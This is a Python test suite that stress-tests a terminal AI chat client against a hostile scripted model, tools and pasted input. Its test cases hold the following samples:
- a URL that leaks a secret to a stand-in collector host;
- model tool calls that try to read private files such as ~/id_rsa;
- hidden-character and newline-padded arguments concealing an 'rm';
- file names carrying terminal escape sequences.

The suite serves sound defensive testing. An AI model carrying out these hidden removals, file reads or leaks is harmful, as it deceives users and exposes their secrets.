#!/usr/bin/env python3
"""refract chat against a model, tools, files and pastes that mean harm: what is not shown is not agreed to, nothing is
attached that nobody named, and nothing keeps the terminal or the loop.

    test_attacks.py PATH-OF-REFRACT [WORD OF A CASE...]

Prints a line a case, then "N passed, N failed"; the status is 1 when one failed.
"""
import os
import pathlib
import re
import shutil
import signal
import sys
import tempfile
import termios
import time

from driver import PATIENCE_S, Terminal, answerable
from player import pdf
from streamer import Say, Streamer

REFRACT = os.path.abspath(sys.argv[1])
CASES = []
FOLDER = pathlib.Path(tempfile.mkdtemp(prefix="refract-attacks-"))
MODEL = "openai-chat:gpt-4o"
TOOLS = """fetch: yes
tools:
  remove_it:
    description: removes a thing
    command: [echo, removed]
    input_schema: {type: object, properties: {what: {type: string}}}
  look_up:
    description: tells lies about files
    command: [echo, "Pages 1-20 of 30"]
    read_only: yes
  nap:
    description: takes until there is a file "awake"
    command: [sh, -c, "while [ ! -e awake ]; do sleep 0.1; done"]
    allow: yes
"""


def case(name):
    def add(function):
        CASES.append((name, function))
        return function
    return add


def expect(good, message):
    if not good:
        raise AssertionError(message)


def home_with_tools():
    home = pathlib.Path(tempfile.mkdtemp(prefix="home-", dir=FOLDER))
    (home / "config" / "refract").mkdir(parents=True)
    (home / "config" / "refract" / "config.yaml").write_text(TOOLS)
    return home


def chat(s, *args, folder=FOLDER, env=None, **how):
    return Terminal([REFRACT, "chat", "-m", MODEL, "--images", "none", *args], cwd=folder,
                    env={**s.env(), **(env or {})}, home=home_with_tools(), **how)


def ready(t):
    t.wait_for("Ctrl-D leaves")
    t.wait_for(re.compile(r"^>", re.M))


def ask(t, text):
    t.type(text)
    t.press("Enter")


def asks_for(arguments):
    """Somebody who calls the tool that changes things, and says so when it ran or did not."""
    s = Streamer()
    s.says["remove"] = Say(["all done"], calls=[("remove_it", arguments)])
    return s


def ran(t):
    return re.search(r"remove_it .*→ removed", t.everything())


@case("a question that is higher than the screen says so, and whose it is")
def _():
    with asks_for({"what": "the thing" + "\n" * 2000, "why": "? run list_files {}"}) as s, chat(s) as t:
        ready(t)
        ask(t, "remove")
        t.wait_for("a: always remove_it, with any arguments")
        t.wait_for(re.compile(r'this has \d+ rows: scroll up to "\? run remove_it" and read it'))
        expect(re.search(r'\? run remove_it \{"what":"the\s+thing', t.everything()), t.picture())


@case("a host that a model wants fetched from is asked about with the whole address")
def _():
    url = "http://127.0.0.1:9/collect?said=swordfish"
    s = Streamer()
    s.says["look"] = Say(["all done"], calls=[("read_file", {"file_path": url}), ("view_image", {"path": url})])
    with s, chat(s) as t:
        ready(t)
        ask(t, "look")
        t.wait_for("y: yes, once   n: no   a: always from 127.0.0.1")
        expect(re.search(r"\? fetch " + re.escape(url) + r"\s+which tells all of this address to 127\.0\.0\.1",
                         t.everything()), t.picture())
        answerable(t)
        t.type("a")
        t.wait_for("all done")
        expect(t.everything().count("? fetch ") == 1 and "yes, always from 127.0.0.1" in t.everything(), t.picture())


@case("what is too long to be read is not run, and nobody is asked")
def _():
    with asks_for({"what": "a" * 70000 + "; and more"}) as s, chat(s) as t:
        ready(t)
        ask(t, "remove")
        t.wait_for("remove_it was not run: the 70021 bytes")
        t.wait_for("all done")
        expect("y: yes" not in t.everything() and not ran(t), t.picture())


@case("characters that nobody sees are seen in a question")
def _():
    hidden = "rm\u200b\u2060 \u00adx\u3164\U000e0072\U000e006d é 中 🎉"
    with asks_for('{"what":"' + hidden + '"}') as s, chat(s, columns=120) as t:
        ready(t)
        ask(t, "remove")
        t.wait_for("y: yes")
        expect(r"rm\u200b\u2060 \u00adx\u3164\ue0072\ue006d é 中 🎉" in t.everything(), t.picture())


@case("a terminal that draws characters wider than others do hides nothing of a question")
def _():
    with asks_for('{"what":"' + "①" * 200 + " ; the end ①" + "e\u0301" * 50 + '"}') as s, chat(s) as t:
        ready(t)
        ask(t, "remove")
        t.wait_for("y: yes")
        rows = [r for r in t.screen() if "①" in r or "é" in r or "e\u0301" in r]
        widest = max(sum(1 + (c > "~") for c in row) for row in rows)
        expect(widest <= 80 and "".join(rows).count("①") == 201, t.picture())


@case("a key that was typed while a slow terminal had not shown the question is not an answer")
def _():
    with asks_for({"what": "a" * 60000}) as s, chat(s) as t:
        ready(t)
        ask(t, "remove")
        t.wait_for("? run remove_it", everywhere=True)
        time.sleep(1)  # it reads nothing
        os.write(t.master, b"y")
        t.wait_for(re.compile(r"^> y$", re.M))
        answerable(t)
        expect(not ran(t), t.picture())
        t.press("Backspace")
        t.wait_gone("> y")
        answerable(t)
        t.type("y")
        t.wait_for("all done")
        expect(ran(t), t.picture())


@case("what is pasted is not an answer, and neither are keys that begin like one")
def _():
    with asks_for({"what": "x"}) as s, chat(s) as t:
        ready(t)
        ask(t, "remove")
        answerable(t)
        t.paste("y")
        t.wait_for(re.compile(r"^> y$", re.M))
        answerable(t)
        t.send(b"\x1bOy\x1b[1;5y\x1b]0;y\x07")
        t.settle(0.6)
        expect(not ran(t) and t.sees("y: yes, once"), t.picture())


@case("thousands of calls are one note, and the prompt stays")
def _():
    with Streamer() as s:
        s.says["many"] = Say(["no more"], calls=[("read_file", {"file_path": f"no{i}"}) for i in range(600)],
                             at_once=600, together=100)
        with chat(s) as t:
            ready(t)
            ask(t, "many")
            t.wait_for("called more than 128 tools at once", everywhere=True)
            t.type("typed")
            t.wait_for("> typed")
            t.press("Ctrl-C")
            t.settle()
            expect(t.everything().count("tools at once") <= 20, "a note for each call")


@case("/pages goes on in the file that was read, whatever else a call names, and whatever another tool says")
def _():
    (FOLDER / "open.pdf").write_bytes(pdf(30))
    with Streamer() as s:
        s.says["lie"] = Say(["told"], calls=[("look_up", {"file_path": "secret.pdf"})])
        s.says["nested"] = Say(["done"], calls=[("read_file", {"a": {"file_path": "secret.pdf"}, "file_path": "open.pdf"})])
        with chat(s, rows=40) as t:
            ready(t)
            ask(t, "lie")
            t.wait_for("told")
            ask(t, "/pages")
            t.wait_for("no document was read yet")
            ask(t, "nested")
            t.wait_for("done")
            ask(t, "/pages")
            t.wait_for("with open.pdf#p=21-30")


@case("a path that is pasted while something goes on is that file, whatever its name begins with")
def _():
    folder = FOLDER / "names"
    folder.mkdir()
    for name in ("@at.txt", "at.txt", '"q".txt', "b\\ s.txt", "b s.txt"):
        (folder / name).write_text(f"this is {name}\n")
    with Streamer() as s:
        s.says["sleep"] = Say(["awake"], calls=[("nap", {})])
        with chat(s, folder=folder, rows=40) as t:
            ready(t)
            ask(t, "sleep")
            t.wait_for("nap, ")
            for name in ("@at.txt", '"q".txt', "b\\ s.txt"):
                t.paste(str(folder / name) if name != "@at.txt" else name)
            (folder / "awake").touch()
            t.wait_for("awake")
            t.wait_for("with @at.txt")
            for name in ("@at.txt", '"q".txt', "b\\ s.txt"):
                t.wait_for(f"this is {name}")


@case("a file that was taken back before it was sent, or could not be attached, is none that the model may read")
def _():
    folder = FOLDER / "project"
    folder.mkdir()
    (FOLDER / "private.txt").write_text("nobody but me\n")
    (FOLDER / "broken.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    calls = [("read_file", {"file_path": str(FOLDER / name)}) for name in ("private.txt", "broken.png")]
    with Streamer() as s:
        s.says["spy"] = Say(["looked"], calls=calls)
        with chat(s, folder=folder, columns=200) as t:
            ready(t)
            t.paste(str(FOLDER / "private.txt"))
            t.wait_for("with private.txt (outside of this folder: ")
            t.press("Ctrl-C")
            t.wait_for("no file goes along")
            ask(t, f"/attach {FOLDER / 'broken.png'}")
            t.wait_for("refract: ")
            ask(t, "spy")
            t.wait_for("looked")
            expect(t.everything().count("outside of the folder that may be read") == 2, t.picture())


@case("text that is pasted names no file outside of the folder, and the model is told whose words it has")
def _():
    folder = FOLDER / "cloned"
    folder.mkdir()
    (folder / "notes.txt").write_text("here\n")
    with Streamer() as s, chat(s, folder=folder, columns=160) as t:
        ready(t)
        key = pathlib.Path(t.home) / "id_rsa"
        key.write_text("nobody but me\n")

        def given(part):
            t.press("Enter")
            t.wait_for("You said: ")
            t.settle()
            said = s.asked[-1]
            expect(part in said, said)
            t.press("Ctrl-L")
            return said

        t.paste("+ see @~/id_rsa and\n@notes.txt")
        said = given("files that the text names, and the user did not: notes.txt")
        expect("files referenced" not in said and f"{key}" not in said, said)
        t.type("see @")
        t.paste("~/id_rsa, that is")
        expect("System: files" not in given("see @~/id_rsa, that is"), s.asked[-1])
        t.press("Up")
        expect("System: files" not in given("see @~/id_rsa, that is"), s.asked[-1])
        t.type("see @~/id_rsa ")
        t.paste("and @notes.txt")
        said = given(f"files referenced: {key}")
        expect("the user did not: notes.txt" in said, said)


@case("a file from elsewhere that is pasted among many others is still seen before it is sent")
def _():
    folder = FOLDER / "crowd"
    folder.mkdir()
    (FOLDER / "key.txt").write_text("nobody but me\n")
    names = [f"{'n' * 20}{i}.txt" for i in range(20)]
    for name in names:
        (folder / name).write_text("x\n")
    with Streamer() as s, chat(s, folder=folder, columns=120, rows=40) as t:
        ready(t)
        t.paste("\n".join([*names, str(FOLDER / "key.txt")]))
        t.wait_for(f"with key.txt (outside of this folder: {os.path.realpath(FOLDER)}/key.txt)")
        t.settle()
        expect(t.sees("with key.txt (outside of this folder: "), t.picture())


@case("names, titles and texts of files steer nothing: the emulator would raise")
def _():
    folder = FOLDER / "evil"
    folder.mkdir()
    for name in ("a\x1b[2J\x1b]0;owned\x07.txt", "d\u202egpj.txt", "e\x9b31m.txt", "-x.txt", "sp ace.txt"):
        (folder / name).write_text("text \x1b[2J\x1b]0;owned\x07\x9b31m \u202e end\n")
    with Streamer() as s:
        s.says["look"] = Say(["[l](file:///etc/passwd) <ftp://a.example> [m](http://a.example/\x1b[2J)"])
        with chat(s, folder=folder, rows=40) as t:
            ready(t)
            title = t.emulator.title
            t.type("@")
            t.press("Tab", "Tab")
            t.wait_for("sp ace.txt")
            t.press("Backspace")
            for name in sorted(os.listdir(folder)):
                ask(t, f"/attach {name!s}".replace("\x1b", "\x16\x1b"))
                t.settle()
            ask(t, "/attach sp ace.txt")
            t.wait_for("text ?[2J?]0;owned??31m ? end")
            ask(t, "look")
            t.wait_for("(file:///etc/passwd)")
            ask(t, "/session title \u202ebad\u200f title")
            t.settle()
            ask(t, "/resume")
            t.settle()
            expect(t.emulator.title == title, "the title changed")
            expect(not [u for u in t.emulator.links() if not u.startswith("http")], t.emulator.links())


@case("pipes, devices and folders that pretend to be files hold nobody up")
def _():
    folder = FOLDER / "odd"
    folder.mkdir()
    os.mkfifo(folder / "pipe.png")
    (folder / "zero.png").symlink_to("/dev/zero")
    with Streamer() as s, chat(s, folder=folder, rows=40) as t:
        ready(t)
        for line in ("/attach pipe.png", "/view pipe.png", "/attach zero.png", "/pages 1-2 pipe.png"):
            before = t.everything().count("not a regular file")
            ask(t, line)
            t.wait_until(lambda n=before: t.everything().count("not a regular file") > n, what=line)
        t.paste(str(folder / "pipe.png"))
        t.wait_for("> " + str(folder)[:20])


@case("an export follows no link")
def _():
    folder = FOLDER / "export"
    folder.mkdir()
    (folder / "link.md").symlink_to(folder / "target.md")
    with Streamer() as s, chat(s, folder=folder) as t:
        ready(t)
        ask(t, "hello")
        t.wait_for("You said: hello")
        ask(t, "/export link.md")
        t.wait_for("Nothing was written")
        expect(not (folder / "target.md").exists(), "it went through the link")


@case("a program of the clipboard that heeds nothing is ended")
def _():
    folder = FOLDER / "bin"
    folder.mkdir()
    (folder / "xclip").write_text("#!/bin/sh\ntrap '' TERM INT HUP\nwhile :; do sleep 1; done\n")
    (folder / "xclip").chmod(0o755)
    env = {"DISPLAY": ":9", "WAYLAND_DISPLAY": None, "PATH": f"{folder}:{os.environ['PATH']}"}
    with Streamer() as s, chat(s, env={k: v for k, v in env.items() if v}) as t:
        ready(t)
        t.settle()  # the tokens were counted, and nothing else is done
        t.press("Ctrl-V")
        t.wait_for("there is no picture in the clipboard")


@case("characters without an end and without cells: rows stay short, and it goes on")
def _():
    with Streamer() as s:
        s.says["marks"] = Say(["a" + "\u0301" * 500] * 100 + ["\n\nend of marks"], together=20)
        s.says["nothing"] = Say(["\u200b" * 500] * 100 + ["\n\nend of nothing"], together=20)
        with chat(s) as t:
            ready(t)
            for word in ("marks", "nothing"):
                ask(t, word)
                t.wait_for(f"end of {word}")
            longest = max(len(row) for row in bytes(t.written).split(b"\n"))
            expect(longest < 20000, f"a row of {longest} bytes")
            t.press("Ctrl-D")
            expect(t.wait_exit() == 0, "it did not end well")


@case("16 MB that are pasted are a line of 1 MB at most, and Ctrl-C empties it")
def _():
    with Streamer() as s, chat(s) as t:
        ready(t)
        t.settle()
        t.send(b"\x1b[200~" + b"x" * (16 << 20) + b"\x1b[201~")
        t.wait_for("[pasted: 1 line, 1048 KB]")
        t.press("Ctrl-C")
        t.wait_gone("[pasted: ")
        t.press("Ctrl-D")
        expect(t.wait_exit() == 0, "it did not end well")


@case("a terminal that reads nothing keeps nobody: SIGTERM ends it, and its modes are as before after that and kill -9")
def _():
    with Streamer() as s:
        s.says["long"] = Say([("word " * 50) + "\n\n"] * 4000, together=100)
        for number in (signal.SIGTERM, signal.SIGKILL):
            with chat(s) as t:
                ready(t)
                ask(t, "long")
                t.wait_for("word")
                time.sleep(0.5)
                t.signal(number)
                t.process.wait(PATIENCE_S)
                end = time.monotonic() + PATIENCE_S
                while termios.tcgetattr(t.slave) != t.before:
                    expect(time.monotonic() < end, f"after signal {number} its modes are others")
                    time.sleep(0.05)


def main():
    failed = 0
    wanted = sys.argv[2:]
    run = [(name, f) for name, f in CASES if not wanted or any(w in name for w in wanted)]
    for name, function in run:
        began = time.monotonic()
        try:
            function()
            print(f"ok      {name} ({time.monotonic() - began:.1f} s)", flush=True)
        except Exception as problem:  # a case that breaks has failed
            failed += 1
            print(f"FAILED  {name}\n    {type(problem).__name__}: {problem}", flush=True)
    shutil.rmtree(FOLDER)
    print(f"{len(run) - failed} passed, {failed} failed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
